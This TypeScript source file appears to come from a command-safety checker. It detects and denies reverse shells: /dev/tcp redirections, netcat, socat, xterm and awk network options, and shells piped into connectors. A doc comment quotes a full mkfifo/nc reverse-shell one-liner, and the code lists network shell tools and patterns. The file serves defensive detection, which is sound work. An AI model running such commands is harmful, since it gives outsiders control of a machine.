import type { RunningScript } from "../../shell/running-commands";
import { argumentsOf, type Family, forNames, nothing, type Seen, seen } from "./danger";
import { optionAmong, optionList } from "./option-list";

const networkFile = /^\/dev\/(tcp|udp)\//;
const runsProgram = optionList("-e -c --exec --sh-exec --lua-exec");
const connectors = new Set(["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat", "openssl"]);

function throughNetworkFile({ opens, commands, script }: RunningScript): readonly Seen[] {
  const file = opens.find((target) => networkFile.test(target));
  if (file) return [{ danger: "shell.reverse_shell", does: "opens a connection to another machine from the shell itself", text: file }];
  const named = commands.find(({ words }) => words.some((word) => networkFile.test(word) || /^(\d*[<>]&?)?\/dev\/tcp\//.test(word)));
  if (named && script.unreadable) return seen("shell.reverse_shell", "opens a connection to another machine from the shell itself", named);
  return nothing;
}

/** `mkfifo p; cat p | sh -i | nc host 1234 > p`: what a shell prints goes to a connection, whose answers it runs. */
function throughPipe({ commands }: RunningScript): readonly Seen[] {
  const shells = commands
    .filter(({ name }) => /^((ba|da|z|k|a)?sh|cmd\.exe|powershell|pwsh)$/.test(name))
    .map(({ within }) => within.index);
  const connector = commands.find(({ name, within: { pipedFrom } }) => {
    return connectors.has(name) && pipedFrom !== null && shells.some((at) => at >= pipedFrom.start && at < pipedFrom.end);
  });
  return connector ? seen("shell.reverse_shell", "hands a shell to another machine", connector) : nothing;
}

/** A shell for somebody on another machine. */
export const reverseShell: Family = {
  dangers: [
    {
      id: "shell.reverse_shell",
      title: "A shell for another machine",
      severity: "critical",
      verdict: "deny",
      escapes: true,
      explanation: "The command connects a shell of this machine to another one, from which anybody can then run anything.",
      fix: "Use a tool for the network request that you need.",
    },
  ],
  ofCommand: new Map([
    ...forNames(["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"], (command) =>
      optionAmong(argumentsOf(command), runsProgram) === null
        ? nothing
        : seen("shell.reverse_shell", "hands a program to another machine", command),
    ),
    ...forNames(["socat"], (command) =>
      argumentsOf(command).some((word) => /(exec|system|shell)[:-]/i.test(word))
        ? seen("shell.reverse_shell", "hands a program to another machine", command)
        : nothing,
    ),
    ...forNames(["xterm"], (command) =>
      argumentsOf(command).some((word) => /^-display$|^\d+\.\d+\.\d+\.\d+:/.test(word))
        ? seen("shell.reverse_shell", "hands a terminal to another machine", command)
        : nothing,
    ),
    ...forNames(["awk", "gawk", "mawk", "nawk"], (command) =>
      argumentsOf(command).some((word) => word.includes("/inet/"))
        ? seen("shell.reverse_shell", "opens a connection to another machine from awk", command)
        : nothing,
    ),
  ]),
  ofScript: (script) => [...throughNetworkFile(script), ...throughPipe(script)],
};
